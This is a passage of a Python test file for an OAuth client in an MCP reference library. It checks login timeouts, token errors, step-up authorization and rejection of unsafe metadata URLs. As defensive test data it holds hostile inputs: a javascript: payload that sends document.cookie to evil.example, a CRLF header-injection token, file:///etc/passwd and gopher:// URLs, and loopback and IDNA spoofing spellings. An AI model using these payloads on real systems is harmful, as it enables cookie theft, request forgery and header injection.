    AuthorizationTimeout, "works", or what it raised otherwise)."""
    outcome: list = []

    def login() -> None:
        try:
            if expect_timeout:
                outcome.append(
                    refused(app, caplog, AuthorizationTimeout, handler=handler, **options)
                )
            else:
                works(app, handler=handler, **options)
                outcome.append("works")
        except BaseException as exc:  # the test reads it
            outcome.append(exc)
        finally:
            handler.close()

    thread = threading.Thread(target=login, name="login", daemon=True)
    thread.start()
    return thread, outcome


def _trickle_while(thread: threading.Thread, stray: socket.socket) -> None:
    """Send UNFINISHED_REQUEST on ``stray`` a byte at a time, each after waiting for ``thread``
    to end (at most TRICKLE), until it ends, the listener closes the stray, or the bytes run out."""
    for byte in UNFINISHED_REQUEST:
        try:
            stray.send(bytes([byte]))
        except OSError:
            return  # the listener closed it
        thread.join(TRICKLE)
        if not thread.is_alive():
            return


def test_a_stray_trickling_its_request_does_not_hold_the_login_past_its_timeout(app, caplog):
    """The login waits for the user ``login_timeout`` and no longer, whatever other connections to
    the loopback listener do: one that sends its request a byte at a time (each byte well within
    any per-read timeout) is read only until the login ends: each connection has a total time, not
    one per read.  The login ends with AuthorizationTimeout, the thread that ran it (and the
    listener) is gone, the stray is closed, and nothing listens on the port any more."""
    strays = Strays()
    handler = LoopbackBrowser(open_browser=False, announce=strays)
    thread, outcome = _login_in_a_thread(
        app, caplog, handler, expect_timeout=True, login_timeout=0.5
    )
    try:
        assert strays.connected.wait(WAIT)
        [stray] = strays.sockets
        _trickle_while(thread, stray)
        thread.join(WAIT)
        assert not thread.is_alive(), "the login outlived its timeout while a stray trickled"
        assert isinstance(outcome[0], AuthorizationTimeout), outcome
        assert read_to_the_end(stray) == b""  # closed, never answered
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", strays.port), timeout=WAIT).close()
    finally:
        strays.close()


def test_a_stray_being_read_does_not_keep_the_redirect_waiting(app, caplog):
    """A stray connection that is still sending its request (a byte at a time) is read side by side
    with the others: the user's browser, arriving after it, gets its redirect taken at once, and
    the login completes while the stray is still trickling (then it is closed, unanswered)."""

    def approve(url: str) -> None:
        location = follow_redirect(url, timeout=WAIT)
        requests.get(location, timeout=WAIT).close()

    strays = Strays(visit=approve)
    handler = LoopbackBrowser(open_browser=False, announce=strays)
    thread, outcome = _login_in_a_thread(
        app, caplog, handler, expect_timeout=False, login_timeout=2 * WAIT
    )
    try:
        assert strays.connected.wait(WAIT)
        [stray] = strays.sockets
        _trickle_while(thread, stray)
        thread.join(WAIT)
        assert not thread.is_alive() and outcome == ["works"], outcome
        assert read_to_the_end(stray) == b""
    finally:
        strays.close()
    assert_clean(app, caplog)


def test_a_stray_gets_a_bounded_time_and_size_for_its_request(app, caplog):
    """Each connection sends its request line and headers within ``request_timeout`` in all (a
    stray trickling past it is closed, unanswered) and within MAX_REQUEST_BYTES (more is answered
    431 and closed); the login goes on meanwhile, and the user's redirect ends it.  (The large
    request had the slow one's 0.2 s too: a busy machine read less than 64 KiB by then and closed
    it unanswered, as a stray.  It now has WAIT.)"""
    from mcp_ref.oauth.browser import MAX_REQUEST_BYTES

    approved = threading.Event()

    def approve(url: str) -> None:
        assert approved.wait(WAIT)
        location = follow_redirect(url, timeout=WAIT)
        requests.get(location, timeout=WAIT).close()

    strays = Strays(visit=approve)
    handler = LoopbackBrowser(open_browser=False, announce=strays, request_timeout=0.2)
    thread, outcome = _login_in_a_thread(
        app, caplog, handler, expect_timeout=False, login_timeout=2 * WAIT
    )
    try:
        assert strays.connected.wait(WAIT)
        [slow] = strays.sockets
        _trickle_while(thread, slow)  # until the listener closes it (0.2 s)
        assert thread.is_alive()  # the login waits on
        assert read_to_the_end(slow) == b""
        handler.request_timeout = WAIT  # the size bound next, the time bound out of its way
        with socket.create_connection(("127.0.0.1", strays.port), timeout=WAIT) as large:
            # one byte too many, all of them read before the answer (none left unread: no reset)
            large.sendall((b"GET /callback?" + b"x" * MAX_REQUEST_BYTES)[: MAX_REQUEST_BYTES + 1])
            assert read_to_the_end(large).startswith(b"HTTP/1.1 431 ")
        approved.set()
        thread.join(WAIT)
        assert not thread.is_alive() and outcome == ["works"], outcome
    finally:
        approved.set()
        strays.close()
    assert_clean(app, caplog)


# -- the token endpoint ----------------------------------------------------------------------------


def test_a_token_endpoint_answering_html_is_a_token_error(app, caplog):
    """OAuth 2.1 §3.2.3 (RFC 6749 §5.1): the token response is a JSON object; anything else is no
    token (2025-11-25 basic/authorization §Access Token Usage)."""
    app.answers[app.paths["token"]] = (200, "text/html", b"<!doctype html><p>Signed in!")
    exc = refused(app, caplog, TokenError)
    assert exc.error == "" and exc.status == 200
    assert (
        app.seen["token"] and app.seen["token"][0]["code_verifier"] in app.secrets
    )  # it was sent, and is checked


def test_an_access_token_that_cannot_go_in_a_header_is_refused_without_showing_it(app, caplog):
    """A token goes in the ``Authorization`` header: an access_token with a line break (a header
    of its own once sent) is a TokenError whose message, like the log, never holds it; nothing is
    sent with it."""
    token = "ACCESS-TOKEN-SECRET\r\nX-Injected: 1"
    app.secrets.add("ACCESS-TOKEN-SECRET")
    app.answers[app.paths["token"]] = (
        200,
        "application/json",
        json.dumps({"access_token": token, "token_type": "Bearer", "expires_in": 60}).encode(),
    )
    exc = refused(app, caplog, TokenError)
    assert "cannot be sent in a header" in str(exc)


@pytest.mark.parametrize(
    "prefix",
    ["00D5e000000abcd!AQ8AQ", "Atza|IwEBIA", "AAAAAAAAAAAAAAAAAAAAAMLheAAA%2BBBB%3D"],
    ids=["salesforce-like", "amazon-like", "twitter-like"],
)
def test_access_tokens_outside_rfc_6750s_b64token_are_used(app, prefix):
    """Real providers issue tokens outside RFC 6750 §2.1's narrow ``b64token`` (``!``, ``|``,
    ``%``); a header carries any visible ASCII, so they are used as they are."""
    app.token_prefix = prefix
    works(app)
    assert any(token.startswith(prefix) for token in app.tokens)


def test_user_credentials_in_the_server_url_stay_out_of_messages_and_logs(app, caplog):
    """The MCP server's URL as the user wrote it, with userinfo: the OAuth client's log names the
    origin without it, and a refusal naming the URL shows ``***@`` (metadata for another resource,
    RFC 9728 §3.3)."""
    app.prm_fields = {"resource": app.origin + "/other"}
    url = app.origin.replace("http://", "http://user:SECRET-PASS@") + "/mcp"
    with pytest.raises(MetadataError) as caught:
        with Client.http(url, auth=OAuth(authorize=follow_redirect, timeout=WAIT), timeout=WAIT):
            pass
    assert "SECRET-PASS" not in str(caught.value) and "***@" in str(caught.value)
    assert "answered 401" in caplog.text and "SECRET-PASS" not in caplog.text


def test_a_token_endpoint_error_is_a_token_error_with_its_code(app, caplog):
    """OAuth 2.1 §3.2.4 (RFC 6749 §5.2): an error response carries ``error`` (``invalid_grant`` ...),
    which the client reports as such."""
    app.answers[app.paths["token"]] = (
        400,
        "application/json",
        json.dumps(
            {"error": "invalid_grant", "error_description": "the code has expired"}
        ).encode(),
    )
    exc = refused(app, caplog, TokenError)
    assert exc.error == "invalid_grant" and exc.status == 400 and "invalid_grant" in str(exc)


# -- the resource server after authorization ---------------------------------------------------------


def test_a_server_that_refuses_the_new_token_is_unauthorized(app, caplog):
    """2025-11-25 basic/authorization §Authorization Flow Steps: the client retries with the new
    token; a server that answers 401 again is a failure reported once, not a loop of authorizations."""
    app.refuse_tokens = True
    refused(app, caplog, Unauthorized)
    assert (
        app.hits[app.paths["authorize"]] == app.hits[app.paths["token"]] == 1
        and len(app.tokens) == 1
    )


@pytest.mark.parametrize("max_step_ups", [1, 2, 3])
def test_step_up_stops_when_the_new_token_already_has_the_scope(app, caplog, max_step_ups):
    """2025-11-25 basic/authorization §Step-Up Authorization Flow: on 403 ``insufficient_scope`` the
    client re-authorizes for the scopes named and retries "no more than a few times", then treats it
    "as a permanent authorization failure".  When the new token already holds every scope the server
    names, authorizing again cannot help: one re-authorization, then InsufficientScope; other calls
    on the connection are unaffected."""
    app.step_up_tool = "admin"
    with connect(app, max_step_ups=max_step_ups) as client:
        assert client.call_tool("hello").content[0].text == "hello"
        before = app.hits[app.paths["authorize"]]
        with pytest.raises(AuthorizationError) as caught:
            client.call_tool("admin")
        assert type(caught.value) is InsufficientScope, (
            f"{type(caught.value).__name__}: {caught.value}"
        )
        [step_up] = app.seen["authorize"][before:]
        assert set(step_up["scope"].split()) == {
            "needs:more",
            "mcp:tools",
        }  # the new scope, and the old kept
        assert client.call_tool("hello").content[0].text == "hello"
    assert_clean(app, caplog, caught.value)


@pytest.mark.parametrize("max_step_ups", [0, 1, 2, 3])
def test_step_up_gives_up_after_max_step_ups_and_the_connection_keeps_working(
    app, caplog, max_step_ups
):
    """2025-11-25 basic/authorization §Step-Up Authorization Flow: retry "no more than a few times".
    An authorization server that never grants the scope asked for (``needs:more``) and a server that
    keeps asking for it: ``OAuth._on_response`` re-authorizes exactly ``max_step_ups`` times (one
    retry after each), then raises InsufficientScope; other calls on the connection are unaffected."""
    app.step_up_tool, app.granted_scope = "admin", "mcp:tools"
    with connect(app, max_step_ups=max_step_ups) as client:
        assert client.call_tool("hello").content[0].text == "hello"
        before = app.hits[app.paths["authorize"]]
        with pytest.raises(AuthorizationError) as caught:
            client.call_tool("admin")
        step_ups = app.seen["authorize"][before:]
        assert type(caught.value) is InsufficientScope, (
            f"{type(caught.value).__name__}: {caught.value}"
        )
        assert len(step_ups) == max_step_ups and app.hits[app.paths["token"]] == 1 + max_step_ups
        assert all("needs:more" in request["scope"].split() for request in step_ups)
        assert client.call_tool("hello").content[0].text == "hello"
    assert_clean(app, caplog, caught.value)


# -- URLs taken from metadata (issue 20, class 2) -----------------------------------------------------

#: URLs no metadata may hand the client: schemes a browser would run or read locally (the class of
#: CVE-2025-6514), plain http to a remote host, credentials, fragments, and spellings on which a
#: browser and urllib disagree about the host.
DANGEROUS_URLS = [
    "javascript:alert(document.cookie)",
    "file:///etc/passwd",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "ms-settings:privacy",
    "http://example.com/authorize",
    "https://user:password@example.com/authorize",
    "https://example.com/authorize#fragment",
    "https://example.com\\@127.0.0.1/authorize",
    " https://example.com/authorize",
    "https://example.com/author\nize",
    "//example.com/authorize",
    "https:///authorize",
    "https://example.com:99999/authorize",
    # Outside ASCII (RFC 3986 §2): IDNA maps these to another host than the one checked, or spoofs one.
    "https://\uff11\uff12\uff17.\uff10.\uff10.\uff11/authorize",
    "https://127\u30020\u30020\u30021/authorize",
    "https://ex\u0430mple.com/authorize",
    "https://example.com/\u202eauthorize",
]


@pytest.fixture
def lookups(monkeypatch):
    """Every host name this process resolves (a recording pass-through around socket.getaddrinfo)."""
    seen: list[str] = []
    real = socket.getaddrinfo

    def recording(host, *args, **kwargs):
        seen.append(str(host))
        return real(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", recording)
    return seen


@pytest.fixture
def browser(monkeypatch):
    """``webbrowser.open`` replaced by a recorder: the URLs the default handler would have opened."""
    import webbrowser

    opened: list[str] = []
    monkeypatch.setattr(webbrowser, "open", lambda url, *args, **kwargs: opened.append(url) or True)
    return opened


def _nothing_left_discovery(app: Mischief, lookups: list[str]) -> None:
    """Nothing was registered, authorized or posted; no host but 127.0.0.1 was even looked up."""
    assert not app.seen["register"] and not app.seen["authorize"] and not app.seen["token"]
    assert not [host for host in lookups if host not in ("127.0.0.1", "localhost")], lookups


@pytest.mark.slow
@pytest.mark.parametrize("endpoint", DANGEROUS_URLS)
def test_a_dangerous_authorization_endpoint_never_reaches_the_browser(
    app, caplog, lookups, endpoint
):
    """2025-11-25 basic/authorization §Communication Security: "All authorization server endpoints MUST
    be served over HTTPS"; a ``javascript:`` / ``file:`` one is handed to nobody.  Refused at discovery
    (MetadataError naming the field), before registration, before the user's browser is involved; the
    deployment serves the same client once its metadata is right."""
    handed: list[str] = []
    app.as_fields = {"authorization_endpoint": endpoint}
    exc = refused(app, caplog, MetadataError, authorize=lambda url: handed.append(url) or "")
    assert "authorization_endpoint" in str(exc) and handed == []
    _nothing_left_discovery(app, lookups)
    app.as_fields = {}
    works(app)


def test_the_default_browser_handler_never_opens_a_javascript_endpoint(app, caplog, browser):
    """The default handler (LoopbackBrowser, opening the system browser): neither announced nor opened."""
    announced: list[str] = []
    app.as_fields = {
        "authorization_endpoint": "javascript:fetch('https://evil.example/?'+document.cookie)"
    }
    refused(
        app,
        caplog,
        MetadataError,
        handler=LoopbackBrowser(open_browser=True, announce=announced.append),
    )
    assert browser == [] and announced == []


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "file:///etc/passwd", "http://example.com/authorize?x=1"]
)
def test_the_browser_handlers_check_the_url_themselves(browser, url):
    """Whoever built the URL (a ServerMetadata of one's own): LoopbackBrowser and follow_redirect refuse it."""
    handler = LoopbackBrowser(open_browser=True, announce=None)
    handler.redirect_uri()
    try:
        with pytest.raises(MetadataError):
            handler.authorize(url, 1.0)
    finally:
        handler.close()
    with pytest.raises(MetadataError):
        follow_redirect(url)
    assert browser == []


@pytest.mark.slow
@pytest.mark.parametrize(
    "field",
    [
        "token_endpoint",
        "registration_endpoint",
        "jwks_uri",
        "revocation_endpoint",
        "introspection_endpoint",
        "pushed_authorization_request_endpoint",
    ],
)
@pytest.mark.parametrize(
    "url",
    [
        "http://example.com/endpoint",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "https://user@example.com/endpoint",
    ],
)
def test_every_endpoint_of_the_metadata_is_checked(app, caplog, lookups, field, url):
    """Every URL of the authorization server metadata (RFC 8414 §2), used by this client or not: a
    client secret, a code and a verifier would go to the token endpoint in the clear."""
    app.as_fields = {field: url}
    exc = refused(app, caplog, MetadataError)
    assert field in str(exc)
    _nothing_left_discovery(app, lookups)
    app.as_fields = {}
    works(app)


@pytest.mark.parametrize(
    "servers",
    [
        ["http://example.com"],
        ["javascript:alert(1)"],
        ["file:///etc"],
        ["https://user@example.com"],
        ["{origin}?tenant=1"],
        ["{origin}#x"],
        ["{origin}", "data:,x"],
        ["https://example.com", "http://example.net"],
    ],
    ids=[
        "http",
        "javascript",
        "file",
        "userinfo",
        "query",
        "fragment",
        "second-bad",
        "second-http",
    ],
)
def test_authorization_servers_named_by_the_resource_are_checked_before_any_fetch(
    app, caplog, lookups, servers
):
    """RFC 9728 §2 ``authorization_servers`` are issuer identifiers (RFC 8414 §2: "a URL that uses the
    https scheme and has no query or fragment components"): a bad one is refused before any of them
    is asked for its metadata."""
    app.prm_fields = {"authorization_servers": [s.format(origin=app.origin) for s in servers]}
    refused(app, caplog, MetadataError)
    assert app.hits[AS_PATH] == 0
    _nothing_left_discovery(app, lookups)


def test_a_resource_with_a_fragment_is_refused(app, caplog):
    """RFC 9728 §2 / RFC 8707 §2: the resource identifier has no fragment."""
    app.prm_fields = {"resource": app.origin + "/mcp#here"}
    refused(app, caplog, MetadataError)
    assert app.hits[AS_PATH] == 0


@pytest.mark.parametrize(
    "where",
    [
        "file:///etc/passwd",
        "http://example.com/.well-known/oauth-protected-resource",
        "https://user:pw@example.com/prm",
        "javascript:alert(1)",
        "gopher://127.0.0.1:25/x",
    ],
)
def test_a_dangerous_resource_metadata_url_in_the_challenge_is_never_fetched(
    app, caplog, lookups, where
):
    """The WWW-Authenticate ``resource_metadata`` (RFC 9728 §5.1) comes from the server: checked before
    it is fetched; nothing else is tried (the spec's "MUST use" leaves no fallback to a bad URL)."""
    app.resource_metadata = where
    refused(app, caplog, MetadataError)
    assert app.hits[PRM_PATH] == 0 and app.hits[AS_PATH] == 0
    _nothing_left_discovery(app, lookups)
    app.resource_metadata = None
    works(app)


def test_check_url_keeps_loopback_targets_for_loopback_referrers():
    """A remote server's metadata must not point this client, or the user's browser, at this machine;
    a loopback deployment (tests, a local dev server) may; a referrer's own origin keeps its scheme."""
    from mcp_ref.oauth.discovery import check_issuer, check_url, legacy_authorization_server

    assert (
        check_url("http://127.0.0.1:9/authorize", "x", referrer="http://localhost:8")
        == "http://127.0.0.1:9/authorize"
    )
    assert check_url("https://as.example/authorize?a=1", "x", referrer="https://mcp.example")
    assert check_url(
        "http://mcp.example/prm", "x", referrer="http://mcp.example/mcp"
    )  # the origin the user named
    for url, referrer in [
        ("http://127.0.0.1:631/admin", "https://as.example"),
        ("https://localhost/x", "https://as.example"),
        ("http://[::1]/x", "https://mcp.example/mcp"),
        ("http://mcp.example.net/prm", "http://mcp.example/mcp"),
    ]:
        with pytest.raises(MetadataError):
            check_url(url, "x", referrer=referrer)
    with pytest.raises(MetadataError, match="query"):
        check_issuer("https://as.example?x=1", "the issuer")
    with pytest.raises(MetadataError, match="not an https URL"):
        check_url("x" * 10, "x")
    with pytest.raises(MetadataError, match="well-formed"):
        check_url("https://as.example/" + "a" * 9000, "x")
    with pytest.raises(
        MetadataError, match="HTTPS"
    ):  # 2025-03-26: the MCP server's origin is the AS; plain http
        legacy_authorization_server(requests.Session(), "http://mcp.example/mcp", timeout=1)


#: This machine, spelled as a browser, urllib3 or the resolver still reads it (issue 20 review).
THIS_MACHINE = [
    "https://127.1/token",
    "https://2130706433/token",
    "https://0x7f.0.0.1/token",
    "https://0177.0.0.1/token",
    "https://0/token",
    "https://0.0.0.0/token",
    "https://127.0.0.1./token",
    "https://localhost./token",
    "https://admin.localhost/token",
    "https://[::ffff:127.0.0.1]/token",
    "https://[::ffff:7f00:1]/token",
    "https://[::]/token",
    "https://[0:0:0:0:0:0:0:1]/token",
]


@pytest.mark.parametrize("url", THIS_MACHINE)
def test_a_remote_party_cannot_name_this_machine_in_another_spelling(url):
    """The loopback rule of check_url holds for every spelling of this machine: a remote authorization
    server naming ``https://127.1/token`` or ``https://[::ffff:127.0.0.1]/`` would have the client post
    its code, verifier and secret to a local service (and the browser open a local page).  A loopback
    deployment may still name them; other hosts (numeric or not) are not mistaken for this machine."""
    from mcp_ref.http.origins import names_this_machine
    from mcp_ref.oauth.discovery import check_url

    with pytest.raises(MetadataError, match="this machine"):
        check_url(url, "the token_endpoint", referrer="https://as.example")
    assert names_this_machine(urlsplit(url).hostname)
    assert check_url(url, "the token_endpoint", referrer="http://127.0.0.1:9/mcp") == url
    for host in (
        "as.example",
        "1.2.3.4",
        "10.0.0.1",
        "cafe.face",
        "0xdeadbeef.example",
        "128.0.0.1",
        "[2001:db8::1]",
    ):
        assert not names_this_machine(urlsplit(f"https://{host}/").hostname), host
        assert check_url(f"https://{host}/token", "x", referrer="https://as.example")


@pytest.mark.parametrize(
    "url",
    [
        "https://%31%32%37.0.0.1/token",
        "https://%6c%6f%63%61%6c%68%6f%73%74/token",
        "https://as%2eexample/token",
    ],
)
def test_a_percent_encoded_host_is_refused_whoever_names_it(url):
    """urllib3 and browsers decode a percent-encoded host (``%31%32%37.0.0.1`` reaches 127.0.0.1)
    which urllib reads as written: the "never this machine" rule would check one host and the
    client reach another.  Such a URL from a peer is refused before any connection, and
    ``names_this_machine`` reads the host decoded."""
    from mcp_ref.http.origins import names_this_machine
    from mcp_ref.oauth.discovery import check_url

    for referrer in ("https://as.example", "http://127.0.0.1:9/mcp"):
        with pytest.raises(MetadataError, match="percent-encoded host"):
            check_url(url, "the token_endpoint", referrer=referrer)
    assert names_this_machine("%31%32%37.0.0.1") and names_this_machine(
        "%6c%6f%63%61%6c%68%6f%73%74"
    )


@pytest.mark.parametrize(
    "paths, kind",
    [
        ((PRM_PATH, PRM_ROOT), MetadataError),  # each URL: the next one would be used
        ((AS_PATH,), MetadataError),
        (("/oauth/register",), RegistrationError),
        (("/oauth/token",), TokenError),
    ],
    ids=["resource-metadata", "as-metadata", "registration", "token"],
)
def test_a_redirect_in_any_authorization_exchange_is_not_followed(caplog, paths, kind):
    """Every exchange with the authorization server (and the metadata GETs) follows no redirect: a 307
    on the token POST would carry the code, the PKCE verifier and the client secret to its target.
    B, the target, receives nothing; the error says it was a redirect; without it the flow works."""
    server = Server("t")

    @server.tool
    def hello() -> str:
        """Says hello."""
        return "hello"

    mischief = Mischief(server.wsgi_app())
    seen_by_b: list[str] = []

    def b_app(environ, start_response):
        seen_by_b.append(environ["PATH_INFO"])
        return _answer(
            start_response, 200, {"issuer": "x", "access_token": "stolen", "token_type": "Bearer"}
        )

    redirect = {"on": True}

    def front(environ, start_response):
        if redirect["on"] and environ["PATH_INFO"] in paths:
            environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
            target = b_httpd.url + environ["PATH_INFO"]
            return _answer(start_response, 307, b"", "text/plain", [("Location", target)])
        return mischief(environ, start_response)

    servers = [WsgiServer(("127.0.0.1", 0), app) for app in (b_app, front)]
    b_httpd, a_httpd = servers
    mischief.origin = a_httpd.url
    for httpd in servers:
        threading.Thread(
            target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True
        ).start()
    try:
        exc = refused(mischief, caplog, kind)
        assert "redirect" in str(exc) and seen_by_b == []
        redirect["on"] = False
        works(mischief)
        assert seen_by_b == []
    finally:
        for httpd in servers:
            httpd.shutdown()
            httpd.server_close()


def test_follow_redirect_reads_the_headers_only_and_closes_the_body_unread():
    """``follow_redirect`` takes the ``Location`` of the authorization endpoint's answer and never
    reads its body (a page as large as the server likes, here one that never ends): requests
    would read a redirect's whole body first, even unfollowed.  The connection is closed unread."""
    listener = socket.create_server(("127.0.0.1", 0))
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/authorize?x=1"
    closed_by_client, stop = threading.Event(), threading.Event()

    def answer() -> None:
        connection, _ = listener.accept()
        with connection:
            connection.settimeout(WAIT)
            try:
                connection.recv(65536)
                connection.sendall(
                    b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:1/callback?code=c&state=s"
                    b"\r\nTransfer-Encoding: chunked\r\n\r\n" + b"10\r\n" + b"a" * 16 + b"\r\n"
                )
                # the rest of the body never comes: only the client's closing ends this
                if connection.recv(1) == b"":
                    closed_by_client.set()
            except OSError:  # reset by the client
                closed_by_client.set()
            stop.wait(WAIT)

    server = threading.Thread(target=answer, daemon=True)
    server.start()
    outcome: list = []

    def follow() -> None:
        try:
            outcome.append(follow_redirect(url, timeout=4 * WAIT))
        except Exception as exc:
            outcome.append(exc)

    caller = threading.Thread(target=follow, daemon=True)
    try:
        caller.start()
        caller.join(WAIT)
        assert not caller.is_alive(), "follow_redirect waited for the body"
        assert outcome == ["http://127.0.0.1:1/callback?code=c&state=s"]
        assert closed_by_client.wait(WAIT)
    finally:
        stop.set()
        listener.close()
        server.join(WAIT)
        caller.join(WAIT)
